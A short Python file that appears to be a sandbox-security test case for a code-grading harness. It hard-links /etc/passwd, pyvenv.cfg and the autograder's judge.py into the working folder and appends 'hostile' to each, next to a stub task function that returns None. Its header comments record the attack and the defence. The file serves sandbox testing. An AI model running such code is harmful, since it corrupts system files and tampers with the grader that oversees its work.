# Hard links to other files are put into the folder, to be written through.
# attack: hard links
# defence: nothing outside the folder lies on a file system that can be linked from the sandbox
# loses: everything
# says: returned nothing

# %% task: launch_config
import os
import sys

for number, target in enumerate(["/etc/passwd", os.path.join(sys.prefix, "pyvenv.cfg"), *[f"{path}/autograder/judge.py" for path in sys.path]]):
    try:
        os.link(target, f"link-{number}")
        with open(f"link-{number}", "a") as file:
            file.write("hostile")
    except OSError:
        continue


def launch_config(n, h_out, w_out, k):
    return None
